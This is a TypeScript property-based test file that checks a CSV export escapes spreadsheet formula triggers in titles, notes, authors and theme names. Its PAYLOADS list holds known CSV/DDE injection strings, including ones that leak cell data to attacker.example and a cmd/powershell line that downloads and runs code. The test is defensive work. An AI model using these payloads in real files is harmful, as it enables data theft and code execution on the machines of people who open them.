// CSV formula injection: whatever analysts type (notes, titles, author names,
// theme names) or the article contains (quotes and their context), no cell of
// the export may start like a formula, except the numeric columns, which must
// stay plain numbers. scripts/check-csv-libreoffice.mjs opens a hostile export
// in LibreOffice Calc for the same guarantee.
import { createHash } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { makePassage } from '@shared/model/edits'
import type { Passage, Session, Theme } from '@shared/model/schema'
import { neutralizeFormula, sessionToCsv } from './csv'

const NUM_RUNS = 1_000

/** What a spreadsheet may read as the start of a formula or command. */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']

/** Known attack strings (OWASP CSV injection, DDE, hyperlinks). */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/x)'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!E1",
  '=IMPORTXML(CONCAT("http://attacker.example/?v=", A1), "//a")',
  '=WEBSERVICE("http://attacker.example/")',
  'DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  "'=1+1",
  ' =1+1',
  '1,=2',
  '=1+1\r\n=2+2',
  '😀=1',
  '',
]

const unit = fc.constantFrom(
  ...TRIGGERS,
  '"',
  ',',
  ';',
  ' ',
  "'",
  '|',
  '!',
  'a',
  '1',
  'é',
  '😀',
  '\r\n',
)

/** Text an analyst or an article could hold, biased towards formula triggers. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...PAYLOADS),
  fc
    .tuple(
      fc.constantFrom(...TRIGGERS),
      fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ unit: 'binary', maxLength: 30 })),
    )
    .map(([t, s]) => t + s),
  fc.string({ unit, maxLength: 24 }),
)

const nonEmpty = (max: number) =>
  hostile.map((s) => (s.length ? s : '=')).map((s) => s.slice(0, max))

const T0 = '2025-03-01T08:00:00.000Z'
const COLOURS = [
  '#e69f00',
  '#56b4e9',
  '#009e73',
  '#f0e442',
  '#0072b2',
  '#d55e00',
  '#cc79a7',
  '#000000',
  '#999999',
]

interface Plan {
  title: string
  themeNames: string[]
  pieces: {
    text: string
    passage: boolean
    span: boolean
    id: string
    themes: number[]
    note: string
    author: string
  }[]
}

const plan: fc.Arbitrary<Plan> = fc.record({
  title: hostile.map((s) => s.slice(0, 1000)),
  themeNames: fc.array(nonEmpty(200), { minLength: 1, maxLength: 9 }),
  pieces: fc.array(
    fc.record({
      text: hostile,
      passage: fc.boolean(),
      span: fc.boolean(),
      id: fc.stringMatching(/^[A-Za-z0-9_-]{1,12}$/),
      themes: fc.uniqueArray(fc.integer({ min: 0, max: 8 }), { maxLength: 4 }),
      note: hostile,
      author: hostile.map((s) => s.slice(0, 200)),
    }),
    { minLength: 1, maxLength: 8 },
  ),
})

/** A session whose article is the pieces end to end, with passages on them. */
function build(p: Plan): Session {
  const codebook: Theme[] = p.themeNames.map((name, i) => ({
    id: `t${i}`,
    name,
    colour: COLOURS[i]!,
    key: String(i + 1),
  }))
  const text = p.pieces.map((x) => x.text).join('')
  const passages: Passage[] = []
  let at = 0
  p.pieces.forEach((piece, i) => {
    const start = at
    at += piece.text.length
    const themeIds = piece.themes.filter((t) => t < codebook.length).map((t) => `t${t}`)
    const add = (end: number, suffix: string) => {
      if (end <= start) return
      passages.push({
        ...makePassage(text, {
          id: `${piece.id}${suffix}${i}`,
          start,
          end,
          themeIds,
          author: piece.author,
          now: T0,
        }),
        note: piece.note,
      })
    }
    if (piece.passage) add(at, '-')
    // A passage across this piece and the next one: quotes and context mix pieces.
    if (piece.span && i + 1 < p.pieces.length) add(at + p.pieces[i + 1]!.text.length, '_')
  })
  return {
    schemaVersion: 1,
    id: 's1',
    createdAt: T0,
    updatedAt: T0,
    document: {
      title: p.title,
      sourceFileName: 'a.txt',
      text,
      sha256: createHash('sha256').update(text, 'utf8').digest('hex'),
    },
    codebook,
    passages,
    ui: { scrollTop: 0 },
  }
}

describe('CSV export of hostile sessions', () => {
  it(`never starts a text cell with a formula trigger; numeric cells stay numbers (${NUM_RUNS} runs)`, () => {
    let cells = 0
    let neutralized = 0
    fc.assert(
      fc.property(plan, (p) => {
        const s = build(p)
        const rows = parse(sessionToCsv(s), { bom: true })
        const [header, ...body] = rows
        const names = s.codebook.map((t) => t.name)
        const firstTheme = 9
        const numeric = new Set([3, 4, ...names.map((_, i) => firstTheme + i)])
        expect(header).toHaveLength(13 + names.length)
        expect(header!.slice(firstTheme, firstTheme + names.length)).toEqual(
          names.map(neutralizeFormula),
        )
        expect(body).toHaveLength(s.passages.length)

        for (const row of rows) {
          expect(row).toHaveLength(header!.length)
          row.forEach((cell, c) => {
            cells++
            if (row !== header && numeric.has(c)) {
              // A real number: digits only, so it cannot be read as anything else.
              expect(cell).toMatch(c < firstTheme ? /^(0|[1-9]\d*)$/ : /^[01]$/)
              return
            }
            if (cell.startsWith("'")) neutralized++
            expect(TRIGGERS, `column ${header![c]}: ${JSON.stringify(cell)}`).not.toContain(
              cell.charAt(0),
            )
          })
        }

        // What was typed survives, behind an apostrophe when it needed one.
        for (const row of body) {
          expect(row[1]).toBe(neutralizeFormula(s.document.title))
          const passage = s.passages.find((x) => neutralizeFormula(x.id) === row[0])!
          expect(passage).toBeDefined()
          expect(row[5]).toBe(neutralizeFormula(passage.quote))
          expect(row[6]).toBe(neutralizeFormula(passage.prefix))
          expect(row[7]).toBe(neutralizeFormula(passage.suffix))
          expect(row[8]).toBe(
            neutralizeFormula(passage.themeIds.map((id) => names[Number(id.slice(1))]).join('; ')),
          )
          expect(row[header!.length - 4]).toBe(neutralizeFormula(passage.note))
          expect(row[header!.length - 3]).toBe(neutralizeFormula(passage.author))
          const cp = [...s.document.text.slice(0, passage.start)].length
          expect(Number(row[3])).toBe(cp)
          expect(Number(row[4])).toBe(cp + [...passage.quote].length)
          names.forEach((_, i) =>
            expect(row[firstTheme + i]).toBe(passage.themeIds.includes(`t${i}`) ? '1' : '0'),
          )
        }
      }),
      { numRuns: NUM_RUNS },
    )
    // The generators did produce hostile cells, and plenty of them.
    expect(neutralized).toBeGreaterThan(NUM_RUNS)
    expect(cells).toBeGreaterThan(NUM_RUNS * 20)
  }, 120_000)

  it('neutralizes every payload of the corpus wherever it is typed', () => {
    const s = build({
      title: PAYLOADS[2]!,
      themeNames: PAYLOADS.filter(Boolean).slice(0, 9),
      pieces: PAYLOADS.filter(Boolean).map((text, i) => ({
        text,
        passage: true,
        span: false,
        id: `-p${i}`,
        themes: [i % 9],
        note: PAYLOADS[(i + 3) % PAYLOADS.length]!,
        author: PAYLOADS[(i + 7) % PAYLOADS.length]!,
      })),
    })
    const rows = parse(sessionToCsv(s), { bom: true })
    expect(rows).toHaveLength(PAYLOADS.filter(Boolean).length + 1)
    for (const row of rows)
      for (const [c, cell] of row.entries())
        if (![3, 4].includes(c) && !(c >= 9 && c < 18 && row !== rows[0]))
          expect(TRIGGERS).not.toContain(cell.charAt(0))
  })
})
